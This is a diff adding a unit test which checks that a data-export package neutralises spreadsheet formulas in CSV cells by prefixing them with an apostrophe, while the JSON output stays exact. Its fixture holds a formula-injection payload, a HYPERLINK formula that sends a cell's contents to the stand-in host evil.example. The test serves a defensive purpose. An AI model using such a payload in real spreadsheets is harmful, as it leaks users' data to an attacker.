@@ -91,3 +91,18 @@ def test_package_has_a_folder_per_service_json_and_csv_per_kind_and_a_checksumme
     assert rows == [["name", "diets"], ['Å, "quoted"', '["gluten"]']]
     assert {f["path"]: f["rows"] for f in manifest["files"]}["orders/individual.json"] == 1
     assert "orders: 1 record(s)" in archive.read("summary.txt").decode()
+
+
+def test_package_csv_cells_never_start_a_formula():
+    """Issue 14: a CRM name typed as a formula is shown as text in the export's CSV, never run;
+    the JSON keeps the value exactly, and numbers stay numbers."""
+    name = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    data, _manifest = package.build(
+        request_id="r1", tenant="t1", generated_at="2025-01-01T00:00:00Z", subject_hashes=[],
+        parts={"crm": {"contact": [{"name": name, "note": "+46 70", "tag": "@A1", "tab": "\tx",
+                                    "balance": -3, "extra": {"k": "=1"}, "plain": "Åsa"}]}},
+        services=[{"service": "crm", "phase": "resolve"}], inventories={})
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    rows = list(csv.reader(io.StringIO(archive.read("crm/contact.csv").decode())))
+    assert rows[1] == ["'" + name, "'+46 70", "'@A1", "'\tx", "-3", '{"k": "=1"}', "Åsa"]
+    assert json.loads(archive.read("crm/contact.json"))[0]["name"] == name
